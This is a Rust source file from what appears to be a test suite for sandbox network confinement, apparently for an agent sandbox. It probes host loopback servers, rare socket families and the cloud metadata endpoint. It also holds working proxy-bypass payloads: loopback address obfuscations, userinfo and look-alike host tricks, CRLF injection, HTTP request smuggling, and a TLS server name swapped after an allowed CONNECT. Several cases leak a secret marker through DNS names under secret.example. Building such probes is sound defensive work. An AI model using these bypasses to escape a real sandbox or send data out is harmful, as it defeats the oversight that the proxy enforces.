//! The network: the host's servers by every transport, kernel code behind rare socket families, and the ways around a proxy.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::time::Duration;

use super::{done, unavailable};
use crate::case::{Attempt, Case, Effect, Opening, Try};
use crate::raw::{Refused, call};
use crate::scene::Scene;

const HOST: Opening = Opening::Is("net.mode", "host");
const PATIENCE: Duration = Duration::from_secs(2);

const fn heard(id: &'static str, title: &'static str, run: fn(&Scene) -> Try) -> Case {
    Case::new(id, title, run).effect(Effect::Heard).opens(HOST)
}

macro_rules! socket {
    ($id:literal, $title:literal, $family:expr, $kind:expr, $protocol:expr) => {
        Case::new($id, $title, |_| {
            let socket = call!(libc::SYS_socket, $family, $kind, $protocol)?;
            done(format!("socket {socket}"))
        })
    };
}

const ROOTS: &str = "it needs CAP_NET_RAW or CAP_NET_ADMIN";
const MODULE: &str = "not every kernel has the family, or loads its module for anybody";

pub const CASES: &[Case] = &[
    heard("net_tcp_lo", "TCP to a server of the host on 127.0.0.1", |s| tcp(&format!("127.0.0.1:{}", s.tcp), s)),
    heard("net_tcp_zero", "TCP to 0.0.0.0", |s| tcp(&format!("0.0.0.0:{}", s.tcp), s)),
    heard("net_tcp_127", "TCP to another address of 127/8", |s| tcp(&format!("127.1.2.3:{}", s.tcp), s)),
    heard("net_tcp6_lo", "TCP to ::1", |s| if s.tcp6 == 0 { unavailable("the host has no IPv6") } else { tcp(&format!("[::1]:{}", s.tcp6), s) }),
    heard("net_tcp_mapped", "TCP to ::ffff:127.0.0.1", |s| tcp(&format!("[::ffff:127.0.0.1]:{}", s.tcp), s)),
    heard("net_tcp_host", "TCP to the host by its own address", |s| match &s.address {
        Some(address) => tcp(&format!("{address}:{}", s.tcp), s),
        None => unavailable("the host has no address but loopback"),
    })
    .cannot("a host without a network has no such address"),
    heard("net_udp", "UDP to a server of the host", |s| udp(&format!("127.0.0.1:{}", s.udp), s)),
    heard("net_udp_host", "UDP to the host by its own address", |s| match &s.address {
        Some(address) => udp(&format!("{address}:{}", s.udp), s),
        None => unavailable("the host has no address but loopback"),
    })
    .cannot("a host without a network has no such address"),
    heard("net_udp_sendmmsg", "UDP by sendmmsg", sendmmsg),
    heard("net_tfo", "TCP Fast Open: connect and send in one call", |s| {
        let socket = call!(libc::SYS_socket, libc::AF_INET, libc::SOCK_STREAM, 0)?;
        let mut address = inet(s.tcp);
        call!(libc::SYS_sendto, socket, s.case.as_ptr(), s.case.len(), libc::MSG_FASTOPEN, &mut address, 16)?;
        done("sent")
    }),
    heard("net_tfo_option", "TCP_FASTOPEN_CONNECT", |s| {
        let socket = call!(libc::SYS_socket, libc::AF_INET, libc::SOCK_STREAM, 0)?;
        let (mut on, mut address) = (1_i32, inet(s.tcp));
        call!(libc::SYS_setsockopt, socket, libc::IPPROTO_TCP, 30, &mut on, 4)?;
        call!(libc::SYS_connect, socket, &mut address, 16)?;
        call!(libc::SYS_write, socket, s.case.as_ptr(), s.case.len())?;
        done("sent")
    }),
    heard("net_mptcp", "MPTCP, which port rules miss", |s| {
        let socket = call!(libc::SYS_socket, libc::AF_INET, libc::SOCK_STREAM, 262)?;
        let mut address = inet(s.tcp);
        call!(libc::SYS_connect, socket, &mut address, 16)?;
        call!(libc::SYS_write, socket, s.case.as_ptr(), s.case.len())?;
        done("sent")
    })
    .cannot("not every kernel has MPTCP"),
    Case::new("net_mptcp_socket", "an MPTCP socket", |_| {
        call!(libc::SYS_socket, libc::AF_INET, libc::SOCK_STREAM, 262)?;
        done("made")
    })
    .cannot("not every kernel has MPTCP"),
    heard("net_disconnect", "a connected UDP socket, then AF_UNSPEC and another address", |s| {
        let socket = UdpSocket::bind("0.0.0.0:0")?;
        socket.connect(("127.0.0.1", 9))?;
        use std::os::fd::AsRawFd;
        let mut nowhere = [0_u64; 2];
        call!(libc::SYS_connect, socket.as_raw_fd(), nowhere.as_mut_ptr(), 16)?;
        socket.send_to(s.case.as_bytes(), ("127.0.0.1", s.udp))?;
        done("sent")
    }),
    heard("net_listen", "listen where host programs connect to", |s| {
        let listener = TcpListener::bind(("127.0.0.1", s.tcp_wanted))?;
        use std::os::fd::AsRawFd;
        let mut poll = libc::pollfd { fd: listener.as_raw_fd(), events: libc::POLLIN, revents: 0 };
        call!(libc::SYS_poll, &mut poll, 1, 1500)?;
        if poll.revents == 0 {
            return Err(Refused::without_errno("nobody came"));
        }
        let (mut stream, _) = listener.accept()?;
        stream.write_all(s.case.as_bytes())?;
        done("somebody came")
    }),
    Case::new("net_meta", "the cloud's metadata service", |_| {
        let address = "169.254.169.254:80".parse().map_err(|_| Refused::without_errno("address"))?;
        TcpStream::connect_timeout(&address, PATIENCE)?;
        done("connected")
    })
    .opens(HOST)
    .cannot("not every host has one"),
    Case::new("net_dns_lo", "the host's resolver", |_| {
        let socket = UdpSocket::bind("0.0.0.0:0")?;
        socket.set_read_timeout(Some(Duration::from_secs(1)))?;
        // A query for example.org, type A.
        let query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07example\x03org\0\0\x01\0\x01";
        let mut last = Refused::without_errno("no resolver");
        for server in ["127.0.0.53:53", "127.0.0.1:53", "[::1]:53"] {
            let answered = socket.send_to(query, server).and_then(|_| socket.recv(&mut [0; 512]));
            match answered {
                Ok(_) => return done(format!("{server} answers")),
                Err(error) => last = error.into(),
            }
        }
        Err(last)
    })
    .opens(HOST)
    .cannot("not every host has a resolver of its own"),
    Case::new("X24", "QUIC: a UDP socket connected to port 443 of an address outside", |_| {
        let socket = UdpSocket::bind("0.0.0.0:0")?;
        socket.connect("192.0.2.1:443")?;
        socket.send(b"quic")?;
        done("there is a route")
    })
    .opens(HOST)
    .cannot("a host without a network has no route"),
    Case::new("net_route", "a route to anywhere", |_| {
        let text = std::fs::read_to_string("/proc/net/route")?;
        let routes = text.lines().skip(1).filter(|line| !line.starts_with("lo\t")).count();
        if routes == 0 {
            return Err(Refused::without_errno("none"));
        }
        done(format!("{routes} routes"))
    })
    .opens(HOST)
    .cannot("a host without a network has none"),
    Case::new("net_interfaces", "interfaces besides loopback", |_| {
        let text = std::fs::read_to_string("/proc/net/dev")?;
        let found: Vec<&str> = text.lines().skip(2).filter_map(|line| line.split(':').next()).map(str::trim).filter(|name| *name != "lo").collect();
        if found.is_empty() {
            return Err(Refused::without_errno("none"));
        }
        done(found.join(", "))
    })
    .opens(HOST)
    .cannot("a host without a network has none"),
    socket!("net_icmp", "an ICMP datagram socket", libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP).cannot("net.ipv4.ping_group_range says who may"),
    socket!("net_raw", "a raw IP socket", libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP).cannot(ROOTS),
    socket!("net_raw6", "a raw IPv6 socket", libc::AF_INET6, libc::SOCK_RAW, 58).cannot(ROOTS),
    socket!("net_packet", "a packet socket", libc::AF_PACKET, libc::SOCK_RAW, 0x0300).cannot(ROOTS),
    Case::new("net_packet_userns", "a packet socket in a user and network namespace", |_| {
        let status = super::in_child(|| {
            let made = call!(libc::SYS_unshare, libc::CLONE_NEWUSER | libc::CLONE_NEWNET)
                .and_then(|_| call!(libc::SYS_socket, libc::AF_PACKET, libc::SOCK_RAW, 0x0300));
            i32::from(made.is_err())
        })?;
        if status == 0 { done("made") } else { Err(Refused::new("socket", libc::EPERM)) }
    }),
    socket!("net_alg", "AF_ALG: the kernel's ciphers", libc::AF_ALG, libc::SOCK_SEQPACKET, 0).cannot(MODULE),
    socket!("net_vsock", "AF_VSOCK: the hypervisor", libc::AF_VSOCK, libc::SOCK_STREAM, 0).cannot(MODULE),
    socket!("net_bluetooth", "AF_BLUETOOTH", libc::AF_BLUETOOTH, libc::SOCK_RAW, 1).cannot(MODULE),
    socket!("net_can", "AF_CAN", libc::AF_CAN, libc::SOCK_RAW, 1).cannot(MODULE),
    socket!("net_tipc", "AF_TIPC", libc::AF_TIPC, libc::SOCK_DGRAM, 0).cannot(MODULE),
    socket!("net_xdp", "AF_XDP", 44, libc::SOCK_RAW, 0).cannot(ROOTS),
    socket!("net_kcm", "AF_KCM", 41, libc::SOCK_DGRAM, 0).cannot(MODULE),
    socket!("net_qipcrtr", "AF_QIPCRTR", 42, libc::SOCK_DGRAM, 0).cannot(MODULE),
    socket!("net_smc", "AF_SMC", 43, libc::SOCK_STREAM, 0).cannot(MODULE),
    socket!("net_rds", "AF_RDS", 21, libc::SOCK_SEQPACKET, 0).cannot(MODULE),
    socket!("net_rxrpc", "AF_RXRPC", 33, libc::SOCK_DGRAM, libc::AF_INET).cannot(MODULE),
    socket!("net_key", "AF_KEY", libc::AF_KEY, libc::SOCK_RAW, 2).cannot(ROOTS),
    socket!("net_pppox", "AF_PPPOX", 24, libc::SOCK_DGRAM, 0).cannot(MODULE),
    socket!("net_nfc", "AF_NFC", 39, libc::SOCK_SEQPACKET, 0).cannot(MODULE),
    socket!("net_mctp", "AF_MCTP", 45, libc::SOCK_DGRAM, 0).cannot(MODULE),
    Case::new("net_exotic", "every family and type beyond Unix, IP and netlink", |_| {
        let mut made = Vec::new();
        for family in 0..64 {
            if [libc::AF_UNIX, libc::AF_INET, libc::AF_INET6, libc::AF_NETLINK].contains(&family) {
                continue;
            }
            for kind in [1, 2, 3, 4, 5, 6, 10] {
                if let Ok(socket) = call!(libc::SYS_socket, family, kind, 0) {
                    call!(libc::SYS_close, socket)?;
                    made.push(format!("{family}/{kind}"));
                }
            }
        }
        if made.is_empty() {
            return Err(Refused::new("socket", libc::EAFNOSUPPORT));
        }
        done(made.join(" "))
    })
    .cannot("what is left depends on the kernel's build"),
    socket!("net_sctp", "SCTP", libc::AF_INET, libc::SOCK_STREAM, 132).cannot(MODULE),
    socket!("net_udplite", "UDP-Lite", libc::AF_INET, libc::SOCK_DGRAM, 136).cannot("newer kernels have dropped it"),
    socket!("net_dccp", "DCCP", libc::AF_INET, 6, 33).cannot("newer kernels have dropped it"),
    socket!("net_l2tp", "L2TP over IP", libc::AF_INET, libc::SOCK_DGRAM, 115).cannot(MODULE),
    socket!("net_nl_audit", "netlink: audit", libc::AF_NETLINK, libc::SOCK_RAW, 9),
    socket!("net_nl_uevent", "netlink: kernel events", libc::AF_NETLINK, libc::SOCK_RAW, 15),
    socket!("net_nl_netfilter", "netlink: netfilter", libc::AF_NETLINK, libc::SOCK_RAW, 12).cannot(MODULE),
    socket!("net_nl_generic", "netlink: generic", libc::AF_NETLINK, libc::SOCK_RAW, 16),
    socket!("net_nl_crypto", "netlink: crypto", libc::AF_NETLINK, libc::SOCK_RAW, 21).cannot(MODULE),
    socket!("net_nl_xfrm", "netlink: IPsec", libc::AF_NETLINK, libc::SOCK_RAW, 6).cannot(MODULE),
    socket!("net_nl_connector", "netlink: process events", libc::AF_NETLINK, libc::SOCK_DGRAM, 11).cannot(MODULE),
    socket!("net_nl_selinux", "netlink: SELinux", libc::AF_NETLINK, libc::SOCK_RAW, 7).cannot(MODULE),
    socket!("net_nl_diag", "netlink: other sockets", libc::AF_NETLINK, libc::SOCK_RAW, 4).cannot(MODULE),
    Case::new("net_nl_other", "every netlink protocol beyond routes", |_| {
        let made: Vec<String> = (1..32)
            .filter(|protocol| call!(libc::SYS_socket, libc::AF_NETLINK, libc::SOCK_RAW, *protocol).is_ok())
            .map(|protocol| protocol.to_string())
            .collect();
        if made.is_empty() {
            return Err(Refused::new("socket", libc::EPROTONOSUPPORT));
        }
        done(format!("protocols {}", made.join(" ")))
    }),
    Case::new("net_nl_link", "make an interface", |_| {
        let socket = call!(libc::SYS_socket, libc::AF_NETLINK, libc::SOCK_RAW, 0)?;
        // RTM_NEWLINK of type dummy: header, ifinfomsg, IFLA_LINKINFO { IFLA_INFO_KIND "dummy" }
        let mut message = [0_u8; 48];
        message[0] = 48;
        message[4] = 16;
        message[6..8].copy_from_slice(&0x0605_u16.to_ne_bytes());
        message[32..36].copy_from_slice(&[16, 0, 18, 0]);
        message[36..40].copy_from_slice(&[10, 0, 1, 0]);
        message[40..45].copy_from_slice(b"dummy");
        call!(libc::SYS_sendto, socket, message.as_ptr(), message.len(), 0, 0, 0)?;
        let mut reply = [0_i32; 64];
        call!(libc::SYS_recvfrom, socket, reply.as_mut_ptr(), 256, 0, 0, 0)?;
        match reply[4] {
            0 => done("made"),
            errno => Err(Refused::new("RTM_NEWLINK", -errno)),
        }
    })
    .cannot(ROOTS),
    Case::new("net_bind_low", "a server on a port below 1024", |_| {
        TcpListener::bind("0.0.0.0:80")?;
        done("bound")
    })
    .cannot("it needs CAP_NET_BIND_SERVICE"),
    Case::new("net_bindtodevice", "SO_BINDTODEVICE, SO_MARK: around the routes", |_| {
        let socket = call!(libc::SYS_socket, libc::AF_INET, libc::SOCK_DGRAM, 0)?;
        let mut mark = 1_i32;
        call!(libc::SYS_setsockopt, socket, libc::SOL_SOCKET, libc::SO_MARK, &mut mark, 4)?;
        done("marked")
    })
    .emulated(super::emulated::SOCKETS)
    .cannot(ROOTS),
    Case::new("net_transparent", "IP_TRANSPARENT: a foreign source address", |_| {
        let socket = call!(libc::SYS_socket, libc::AF_INET, libc::SOCK_DGRAM, 0)?;
        let mut on = 1_i32;
        call!(libc::SYS_setsockopt, socket, libc::IPPROTO_IP, 19, &mut on, 4)?;
        done("set")
    })
    .emulated(super::emulated::SOCKETS)
    .cannot(ROOTS),
    Case::new("net_ifconfig", "SIOCSIFFLAGS: switch an interface", |_| {
        let socket = call!(libc::SYS_socket, libc::AF_INET, libc::SOCK_DGRAM, 0)?;
        let mut request = [0_u8; 40];
        request[..2].copy_from_slice(b"lo");
        request[16] = 0x41;
        call!(libc::SYS_ioctl, socket, 0x8914, request.as_mut_ptr())?;
        done("switched")
    })
    .cannot(ROOTS),
    Case::new("net_ulp", "TCP_ULP: kernel TLS", |_| {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let stream = TcpStream::connect(listener.local_addr()?)?;
        use std::os::fd::AsRawFd;
        call!(libc::SYS_setsockopt, stream.as_raw_fd(), libc::IPPROTO_TCP, 31, c"tls", 3)?;
        done("attached")
    })
    .cannot(MODULE),
    Case::new("net_zerocopy", "SO_ZEROCOPY and MSG_ZEROCOPY", |_| {
        let socket = call!(libc::SYS_socket, libc::AF_INET, libc::SOCK_STREAM, 0)?;
        let mut on = 1_i32;
        call!(libc::SYS_setsockopt, socket, libc::SOL_SOCKET, 60, &mut on, 4)?;
        done("set")
    })
    .cannot("one's own pages on one's own loopback: nothing is gained"),
    heard("px_connect_lo", "the proxy: CONNECT to a server of the host on 127.0.0.1", |s| proxied(s, &format!("127.0.0.1:{}", s.tcp))),
    heard("px_connect_name", "the proxy: CONNECT to localhost", |s| proxied(s, &format!("localhost:{}", s.tcp))),
    heard("px_connect_v6", "the proxy: CONNECT to ::1 and to ::ffff:127.0.0.1", |s| {
        proxied(s, &format!("[::1]:{}", s.tcp6)).or_else(|_| proxied(s, &format!("[::ffff:127.0.0.1]:{}", s.tcp)))
    }),
    heard("px_connect_decimal", "the proxy: CONNECT to 2130706433, 0x7f.1 and 127.1", |s| {
        ["2130706433", "0x7f.1", "127.1", "0"].iter().find_map(|name| proxied(s, &format!("{name}:{}", s.tcp)).ok()).ok_or(Refused::without_errno("refused"))
    }),
    heard("px_connect_host", "the proxy: CONNECT to the host's own address", |s| match &s.address {
        Some(address) => proxied(s, &format!("{address}:{}", s.tcp)),
        None => unavailable("the host has no address but loopback"),
    })
    .cannot("a host without a network has no such address"),
    heard("px_connect_spelt", "the proxy: CONNECT to 0177.0.0.1, 0x7f000001, 127.000.000.001, ① and kin", |s| {
        proxied_any(s, &["0177.0.0.1", "0x7f000001", "017700000001", "127.000.000.001", "127.0.1", "\u{2460}27.0.0.1", "127\u{3002}0.0.1", "127.0.0.1.", "localhost."])
    }),
    heard("px_connect_inside6", "the proxy: CONNECT to IPv4 inside IPv6, in each of its forms", |s| {
        proxied_any(s, &["[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::127.0.0.1]", "[2002:7f00:1::]", "[::]", "[0:0:0:0:0:ffff:127.0.0.1]", "[::1%lo]", "[fe80::1%25lo]"])
    }),
    heard("px_connect_zero", "the proxy: CONNECT to 0.0.0.0, another loopback address and broadcast", |s| {
        proxied_any(s, &["0.0.0.0", "127.255.255.254", "127.0.0.2", "255.255.255.255", "224.0.0.1"])
    }),
    heard("px_userinfo", "the proxy: CONNECT with an allowed name before or behind an @", |s| {
        let port = s.tcp;
        [
            format!("github.com@127.0.0.1:{port}"),
            format!("github.com:443@127.0.0.1:{port}"),
            format!("127.0.0.1:{port}@github.com:443"),
            format!("127.0.0.1:{port}#github.com:443"),
            format!("127.0.0.1:{port}/github.com:443"),
            format!("127.0.0.1:{port}?github.com:443"),
            format!("127.0.0.1:{port}\\@github.com:443"),
        ]
        .iter()
        .find_map(|target| proxied(s, target).ok())
        .ok_or(Refused::without_errno("refused"))
    })
    .cannot("without a proxy there is nothing to confuse"),
    Case::new("px_suffix", "the proxy: names that only look like an allowed one", |s| {
        ["github.com.secret.example:443", "secretgithub.com:443", "github.com\0.secret.example:443", "github.com%2esecret.example:443", "xn--gthub-n4a.com:443"]
            .iter()
            .find_map(|target| proxied(s, target).ok())
            .ok_or(Refused::without_errno("refused"))
    })
    .cannot("the names do not exist, so without a proxy nothing answers"),
    Case::new("px_port", "the proxy: other ports of an allowed name", |s| {
        ["github.com:22", "github.com:80", "github.com:25", "github.com:0", "github.com:65979", "github.com:-1", "github.com", "github.com:443:22"]
            .iter()
            .find_map(|target| proxied(s, target).ok())
            .ok_or(Refused::without_errno("refused"))
    })
    .cannot("not every host has a way to the network"),
    heard("px_forms", "the proxy: other schemes, and addresses without one", |s| {
        let target = format!("127.0.0.1:{}", s.tcp);
        [
            format!("GET ftp://{target}/{} HTTP/1.1\r\nHost: {target}\r\n\r\n", s.case),
            format!("GET https://{target}/{} HTTP/1.1\r\nHost: {target}\r\n\r\n", s.case),
            format!("GET file:///etc/hostname HTTP/1.1\r\nHost: {target}\r\n\r\n"),
            format!("GET //{target}/{} HTTP/1.1\r\nHost: {target}\r\n\r\n", s.case),
            format!("GET /{} HTTP/1.1\r\nHost: {target}\r\n\r\n", s.case),
            format!("CONNECT http://{target}/ HTTP/1.1\r\nHost: {target}\r\n\r\n"),
            format!("CONNECT {target} HTTP/1.0\r\n\r\n"),
            format!("connect {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"),
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_owned(),
            format!("GET http://{target}/{} HTTP/1.1\r\nHost: {target}\r\nUpgrade: websocket\r\nConnection: upgrade\r\n\r\n", s.case),
            format!("\u{4}\u{1}{}\u{7f}\0\0\u{1}x\0", char::from(80)),
            "\u{5}\u{1}\0".to_owned(),
        ]
        .iter()
        .find_map(|request| judged(&asked(request).ok()?).ok())
        .ok_or(Refused::without_errno("refused"))
    })
    .cannot("without a proxy most of these are no request"),
    heard("px_length", "the proxy: a request hidden behind two lengths, and behind an odd chunk", |s| {
        let inner = format!("GET http://127.0.0.1:{0}/{1} HTTP/1.1\r\nHost: 127.0.0.1:{0}\r\n\r\n", s.tcp, s.case);
        let head = "POST http://github.com/ HTTP/1.1\r\nHost: github.com\r\n";
        [
            format!("{head}Content-Length: 0\r\nContent-Length: {}\r\n\r\n{inner}", inner.len()),
            format!("{head}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{inner}"),
            format!("{head}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{inner}"),
            format!("{head}Transfer-Encoding: chunked\r\n\r\n0;x\n\r\n\r\n{inner}"),
            format!("{head}Expect: 100-continue\r\nContent-Length: 0\r\n\r\n{inner}"),
        ]
        .iter()
        .find_map(|request| judged(&asked(request).ok()?).ok())
        .ok_or(Refused::without_errno("refused"))
    })
    .cannot("without a proxy there is nothing to confuse"),
    heard("px_service_ports", "the host's server by way of agentd's other services", |s| {
        let target = format!("127.0.0.1:{}", s.tcp);
        for port in [8080_u16, 8090, 3128, 9100, 9200] {
            let Ok(mut stream) = TcpStream::connect(("127.0.0.1", port)) else {
                continue;
            };
            stream.set_read_timeout(Some(Duration::from_secs(2)))?;
            let path = format!("//{target}/../@{target}/{}", s.case);
            let request = format!("GET {path} HTTP/1.1\r\nHost: {target}\r\nX-Forwarded-Host: {target}\r\nConnection: close\r\n\r\n");
            stream.write_all(request.as_bytes())?;
            let mut answer = Vec::new();
            // Whatever comes: the server's own word counts.
            stream.take(4096).read_to_end(&mut answer).ok();
            if let Ok(found) = judged(&String::from_utf8_lossy(&answer)) {
                return Ok(found);
            }
        }
        Err(Refused::without_errno("refused"))
    })
    .cannot("there is no agentd without a sandbox"),
    heard("px_get", "the proxy: GET http://127.0.0.1/", |s| {
        let answer = asked(&format!("GET http://127.0.0.1:{0}/{1} HTTP/1.1\r\nHost: 127.0.0.1:{0}\r\nConnection: close\r\n\r\n", s.tcp, s.case))?;
        judged(&answer)
    }),
    heard("px_get_host", "the proxy: an allowed name in the line, the host's in Host", |s| {
        let answer = asked(&format!("GET http://github.com/{1} HTTP/1.1\r\nHost: 127.0.0.1:{0}\r\nConnection: close\r\n\r\n", s.tcp, s.case))?;
        judged(&answer)
    })
    .cannot("without a proxy there is nothing to confuse"),
    heard("px_smuggle", "the proxy: a second request behind the body of the first", |s| {
        let inner = format!("GET http://127.0.0.1:{0}/{1} HTTP/1.1\r\nHost: 127.0.0.1:{0}\r\n\r\n", s.tcp, s.case);
        let answer = asked(&format!("POST http://github.com/ HTTP/1.1\r\nHost: github.com\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}"))?;
        judged(&answer)
    })
    .cannot("without a proxy there is nothing to confuse"),
    heard("px_crlf", "the proxy: a line break in the name", |s| proxied(s, &format!("github.com:443\r\nX: 127.0.0.1:{}", s.tcp)))
        .cannot("without a proxy there is nothing to confuse"),
    Case::new("px_meta", "the proxy: the metadata service by address and by names that lead there", |s| {
        ["169.254.169.254:80", "metadata.google.internal:80", "169.254.169.254.nip.io:80", "[fd00:ec2::254]:80"]
            .iter()
            .find_map(|name| proxied(s, name).ok())
            .ok_or(Refused::without_errno("refused"))
    })
    .cannot("not every host has one"),
    Case::new("X23", "the proxy: a name that nobody allowed, with a secret in it", |s| proxied(s, &format!("{}.secret.example:443", s.mark)))
        .cannot("the name does not exist, so without a proxy nothing answers"),
    Case::new("X23_plain", "the proxy: plain requests for names that nobody allowed, each with a piece of a secret", |s| {
        ["a", "b", "c"]
            .iter()
            .find_map(|piece| {
                let host = format!("{piece}-{}.secret.example", s.mark);
                judged(&asked(&format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")).ok()?).ok()
            })
            .ok_or(Refused::without_errno("refused"))
    })
    .cannot("the name does not exist, so without a proxy nothing answers"),
    Case::new("X23_resolver", "the C library asked for a name with a secret in it, and a DNS server by UDP and TCP", |s| {
        use std::net::ToSocketAddrs;
        let name = format!("{}.secret.example", s.mark);
        if format!("{name}:80").to_socket_addrs().is_ok() {
            return done("it has an address");
        }
        let mut query = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
        for label in name.split('.') {
            query.push(u8::try_from(label.len()).unwrap_or(0));
            query.extend_from_slice(label.as_bytes());
        }
        query.extend_from_slice(&[0, 0, 1, 0, 1]);
        for server in ["8.8.8.8:53", "1.1.1.1:53", "127.0.0.53:53", "[2001:4860:4860::8888]:53"] {
            let Ok(socket) = UdpSocket::bind(if server.starts_with('[') { "[::]:0" } else { "0.0.0.0:0" }) else {
                continue;
            };
            if socket.send_to(&query, server).is_ok() && !server.starts_with("127.") {
                return done(format!("a query left for {server}"));
            }
            let address = server.parse().map_err(|_| Refused::without_errno("no address"))?;
            if TcpStream::connect_timeout(&address, Duration::from_millis(500)).is_ok() {
                return done(format!("a connection to {server}"));
            }
        }
        Err(Refused::without_errno("no query leaves"))
    })
    .cannot("not every host has a network"),
    Case::new("X19",  "the proxy: CONNECT to an allowed name, then TLS for another", |s| {
        let mut stream = proxy()?;
        stream.write_all(b"CONNECT github.com:443 HTTP/1.1\r\nHost: github.com:443\r\n\r\n")?;
        let mut answer = [0; 512];
        let count = stream.read(&mut answer)?;
        let said = String::from_utf8_lossy(&answer[..count]).into_owned();
        if !said.contains(" 200") {
            return Err(Refused::without_errno(format!("{}: {}", s.case, first_line(&said))));
        }
        stream.write_all(&client_hello("unlisted.example"))?;
        match stream.read(&mut answer)? {
            0 => Err(Refused::without_errno("closed")),
            count => done(format!("{count} bytes came back")),
        }
    })
    .cannot("without a proxy there is no rule to get around"),
    Case::new("X19_pieces", "the proxy: the same, the name cut over TLS records and writes", |_| {
        let mut stream = proxy()?;
        stream.write_all(b"CONNECT github.com:443 HTTP/1.1\r\nHost: github.com:443\r\n\r\n")?;
        let mut answer = [0; 512];
        let count = stream.read(&mut answer)?;
        let said = String::from_utf8_lossy(&answer[..count]).into_owned();
        if !said.contains(" 200") {
            return Err(Refused::without_errno(first_line(&said)));
        }
        let hello = client_hello("unlisted.example");
        for piece in hello[5..].chunks(11) {
            let record = [&[22, 3, 1, 0, u8::try_from(piece.len()).unwrap_or(0)][..], piece].concat();
            stream.write_all(&record)?;
        }
        match stream.read(&mut answer)? {
            0 => Err(Refused::without_errno("closed")),
            count => done(format!("{count} bytes came back")),
        }
    })
    .cannot("without a proxy there is no rule to get around"),
];

fn tcp(address: &str, s: &Scene) -> Try {
    let address = address
        .parse()
        .map_err(|_| Refused::without_errno("no address"))?;
    let mut stream = TcpStream::connect_timeout(&address, PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.write_all(s.case.as_bytes())?;
    let mut bytes = vec![0; 256];
    let count = stream.read(&mut bytes)?;
    bytes.truncate(count);
    Ok(Attempt::Loot(bytes))
}

fn udp(address: &str, s: &Scene) -> Try {
    let socket = UdpSocket::bind("0.0.0.0:0")?;
    socket.set_read_timeout(Some(Duration::from_secs(1)))?;
    socket.send_to(s.case.as_bytes(), address)?;
    let mut bytes = vec![0; 256];
    let count = socket.recv(&mut bytes)?;
    bytes.truncate(count);
    Ok(Attempt::Loot(bytes))
}

fn sendmmsg(s: &Scene) -> Try {
    let socket = call!(libc::SYS_socket, libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let mut address = inet(s.udp);
    let mut vector = libc::iovec {
        iov_base: s.case.as_ptr().cast_mut().cast(),
        iov_len: s.case.len(),
    };
    // struct mmsghdr: msghdr (name, namelen, iov, iovlen, control, controllen, flags), length
    let mut message = [0_u64; 8];
    message[0] = (&raw mut address).expose_provenance() as u64;
    message[1] = 16;
    message[2] = (&raw mut vector).expose_provenance() as u64;
    message[3] = 1;
    call!(libc::SYS_sendmmsg, socket, message.as_mut_ptr(), 1, 0)?;
    done("sent")
}

/// `sockaddr_in` of 127.0.0.1.
fn inet(port: u16) -> [u8; 16] {
    let mut address = [0; 16];
    address[..2].copy_from_slice(&(libc::AF_INET as u16).to_ne_bytes());
    address[2..4].copy_from_slice(&port.to_be_bytes());
    address[4..8].copy_from_slice(&[127, 0, 0, 1]);
    address
}

/// The proxy that the environment names; without one, whoever is asked directly.
fn proxy() -> Result<TcpStream, Refused> {
    let named = ["HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"]
        .iter()
        .find_map(|name| std::env::var(name).ok());
    let Some(named) = named else {
        return Err(Refused::without_errno("no proxy is named"));
    };
    let bare = named.trim_start_matches("http://").trim_end_matches('/');
    let bare = bare.rsplit_once('@').map_or(bare, |(_, address)| address);
    let stream = TcpStream::connect(bare)?;
    stream.set_read_timeout(Some(Duration::from_secs(4)))?;
    Ok(stream)
}

fn proxied(s: &Scene, target: &str) -> Try {
    let mut stream = match proxy() {
        Ok(stream) => stream,
        // No proxy: the way is direct, or there is none.
        Err(_) => return direct(target, s),
    };
    stream.write_all(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes())?;
    let mut answer = [0; 512];
    let count = stream.read(&mut answer)?;
    let said = String::from_utf8_lossy(&answer[..count]).into_owned();
    judged(&said)?;
    stream.write_all(s.case.as_bytes())?;
    let count = stream.read(&mut answer)?;
    Ok(Attempt::Loot(answer[..count].to_vec()))
}

/// The host's server by any of these names for it.
fn proxied_any(s: &Scene, hosts: &[&str]) -> Try {
    hosts
        .iter()
        .find_map(|host| {
            let port = if host.starts_with('[') { s.tcp6 } else { s.tcp };
            proxied(s, &format!("{host}:{port}")).ok()
        })
        .ok_or(Refused::without_errno("refused"))
}

fn direct(target: &str, s: &Scene) -> Try {
    use std::net::ToSocketAddrs;
    let address = target
        .to_socket_addrs()?
        .next()
        .ok_or_else(|| Refused::without_errno("no address"))?;
    tcp(&address.to_string(), s)
}

fn asked(request: &str) -> Result<String, Refused> {
    let mut stream = match proxy() {
        Ok(stream) => stream,
        Err(_) => {
            let host = request
                .split("://")
                .nth(1)
                .and_then(|rest| rest.split('/').next())
                .unwrap_or_default();
            TcpStream::connect(host)?
        }
    };
    stream.write_all(request.as_bytes())?;
    let mut answer = [0; 512];
    let count = stream.read(&mut answer)?;
    Ok(String::from_utf8_lossy(&answer[..count]).into_owned())
}

fn judged(answer: &str) -> Try {
    if answer.contains(" 200") || answer.contains("SECRET-") {
        return done(first_line(answer));
    }
    Err(Refused::without_errno(first_line(answer)))
}

fn first_line(text: &str) -> String {
    text.lines().next().unwrap_or("no answer").to_owned()
}

/// A TLS 1.2 ClientHello that names a server.
fn client_hello(name: &str) -> Vec<u8> {
    let length = |value: usize| u16::try_from(value).unwrap_or(u16::MAX).to_be_bytes();
    let entry = [&[0][..], &length(name.len()), name.as_bytes()].concat();
    let list = [&length(entry.len())[..], &entry].concat();
